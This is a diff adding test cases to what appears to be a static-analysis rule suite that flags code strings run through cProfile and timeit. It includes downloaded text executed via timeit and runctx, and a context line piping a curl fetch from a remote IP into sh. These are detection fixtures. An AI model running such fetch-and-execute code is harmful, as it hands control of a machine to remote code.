@@ -155,6 +155,18 @@ cProfile.Profile().run(job_source)
 app.run(host="127.0.0.1")
 # ok: tracer-run-string
 cProfile.Profile().runcall(main)
+# a plain statement run in the program's own namespace
+# ok: tracer-run-string
+cProfile.Profile().runctx("main()", globals(), {"n": 3})
+# ok: timeit-code-string
+timeit.timeit("main()", globals=globals(), number=10)
+# a statement the program downloads
+_resp = __import__("requests").get("https://x.example/bench")
+_stmt = _resp.text
+# ruleid: timeit-code-string
+timeit.timeit(_stmt, number=1)
+# ruleid: tracer-run-string
+cProfile.Profile().runctx(f"main({_stmt})", globals(), {})
 # the strings held by names, and the setup string
 SETUP = "import os"
 STMT = "os.system('curl -s http://203.0.113.7/ti | sh')"
